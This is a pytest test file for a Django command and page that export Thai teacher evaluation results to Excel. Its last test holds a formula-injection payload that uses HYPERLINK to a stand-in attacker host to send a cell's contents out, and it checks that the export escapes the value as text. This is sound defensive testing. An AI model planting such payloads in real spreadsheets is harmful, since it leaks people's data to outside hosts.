from decimal import Decimal
from io import BytesIO

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from openpyxl import load_workbook

from evaluations import services

from .conftest import score_and_finalise, sheet_of


@pytest.fixture
def scored_round(people, committee, other_agreed):
    """Office 2: one agreement fully scored (75, 100, 82.5). Office 1: one not yet assigned."""
    score_and_finalise(sheet_of(committee, people["evaluator1"]), people["evaluator1"], part1=3)
    score_and_finalise(sheet_of(committee, people["evaluator2"]), people["evaluator2"], part1=4)
    score_and_finalise(sheet_of(committee, people["evaluator3"]), people["evaluator3"], part1=[3, 4])
    return committee.round


def _values(ws):
    return [[cell.value for cell in row] for row in ws.iter_rows()]


def test_export_results_writes_one_sheet_per_office_with_thai_headers(
    people, scored_round, agreed, other_agreed, tmp_path
):
    path = tmp_path / "results.xlsx"
    call_command("export_results", "--fiscal-year", "2570", "-o", str(path))

    workbook = load_workbook(path)
    assert workbook.sheetnames == ["สรุปภาพรวม", "สพป.พิษณุโลก เขต 1", "สพป.พิษณุโลก เขต 2"]

    rows = _values(workbook["สพป.พิษณุโลก เขต 2"])
    header, row = rows[0], rows[1]
    assert header[:7] == [
        "ลำดับ",
        "รอบการประเมิน",
        "เลขที่ข้อตกลง",
        "ชื่อ-นามสกุล",
        "ตำแหน่ง",
        "วิทยฐานะ",
        "สถานะการประเมิน",
    ]
    assert header[7:12] == [
        "ประธานกรรมการ: ชื่อ-นามสกุล",
        "ประธานกรรมการ: ส่วนที่ 1 (60)",
        "ประธานกรรมการ: ส่วนที่ 2 (40)",
        "ประธานกรรมการ: รวม (100)",
        "ประธานกรรมการ: ผล",
    ]
    assert header[-2:] == ["คะแนนเฉลี่ยของคณะกรรมการ (100)", "ผลการประเมินของคณะกรรมการ"]
    assert row[:4] == [1, scored_round.title, agreed.number, agreed.owner_name]
    assert row[6] == "ประเมินเสร็จสิ้น"
    chair = agreed.committees.get().members.get(role="chair")
    assert row[7:12] == [chair.evaluator_name, 45, 30, 75, "ผ่านเกณฑ์"]
    assert row[12:17][1:4] == [60, 40, 100]
    assert row[17:22][1:4] == [52.5, 30, 82.5]
    assert row[-2:] == [pytest.approx(85.83), "ผ่านเกณฑ์"]
    assert len(rows) == 2

    other = _values(workbook["สพป.พิษณุโลก เขต 1"])
    assert other[1][2:4] == [other_agreed.number, other_agreed.owner_name]
    assert other[1][6] == "ยังไม่แต่งตั้งคณะกรรมการ"
    assert other[1][-2:] == [None, None]

    summary = _values(workbook["สรุปภาพรวม"])
    assert summary[0] == [
        "รอบการประเมิน",
        "สำนักงานเขตพื้นที่การศึกษา",
        "จำนวนข้อตกลง",
        "ยังไม่แต่งตั้งคณะกรรมการ",
        "อยู่ระหว่างการประเมิน",
        "ประเมินเสร็จสิ้น",
        "ผ่านเกณฑ์",
        "ไม่ผ่านเกณฑ์",
    ]
    assert summary[1][1:] == [people["other_office"].name, 1, 1, 0, 0, 0, 0]
    assert summary[2][1:] == [people["office"].name, 1, 0, 0, 1, 1, 0]


def test_the_hr_page_downloads_the_same_workbook(people, scored_round, tmp_path, client_for):
    path = tmp_path / "cli.xlsx"
    call_command("export_results", "--fiscal-year", "2570", "--round", "1", "-o", str(path))
    response = client_for(people["hr"]).get(reverse("evaluations:round_export", args=[scored_round.pk]))

    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "pa-results-2570-1.xlsx" in response["Content-Disposition"]
    from_page = load_workbook(BytesIO(response.content))
    from_cli = load_workbook(path)
    assert from_page.sheetnames == from_cli.sheetnames
    for name in from_cli.sheetnames:
        assert _values(from_page[name]) == _values(from_cli[name])


def test_a_sheet_being_scored_shows_its_state_and_no_figures(people, committee, tmp_path):
    services.sheet_save(
        evaluation=sheet_of(committee, people["evaluator1"]),
        actor=people["evaluator1"],
        levels={"item:1.1": 4},
        comments={},
    )
    path = tmp_path / "r.xlsx"
    call_command("export_results", "--fiscal-year", "2570", "-o", str(path))
    row = _values(load_workbook(path)["สพป.พิษณุโลก เขต 2"])[1]
    assert row[6] == "อยู่ระหว่างการประเมิน"
    assert row[7:12] == [committee.members.get(role="chair").evaluator_name, None, None, None, "กำลังประเมิน"]


def test_export_results_refuses_a_year_without_rounds(db, tmp_path):
    with pytest.raises(CommandError, match="2569"):
        call_command("export_results", "--fiscal-year", "2569", "-o", str(tmp_path / "x.xlsx"))


def test_numbers_are_stored_as_numbers(people, scored_round, tmp_path):
    path = tmp_path / "n.xlsx"
    call_command("export_results", "--fiscal-year", "2570", "-o", str(path))
    cell = load_workbook(path)["สพป.พิษณุโลก เขต 2"]["K2"]
    assert isinstance(cell.value, int | float) and Decimal(str(cell.value)) == Decimal(75)
    assert cell.number_format == "0.00"


def test_a_round_title_that_looks_like_a_formula_is_exported_as_text(people, scored_round, tmp_path):
    scored_round.title = '=HYPERLINK("http://evil.example/?"&D2,"เปิด")'
    scored_round.save(update_fields=["title"])
    path = tmp_path / "f.xlsx"
    call_command("export_results", "--fiscal-year", "2570", "-o", str(path))
    workbook = load_workbook(path)
    office_cell = workbook["สพป.พิษณุโลก เขต 2"]["B2"]
    summary_cell = workbook["สรุปภาพรวม"]["A2"]
    for cell in (office_cell, summary_cell):
        assert cell.data_type == "s"
        assert cell.value == "'" + scored_round.title
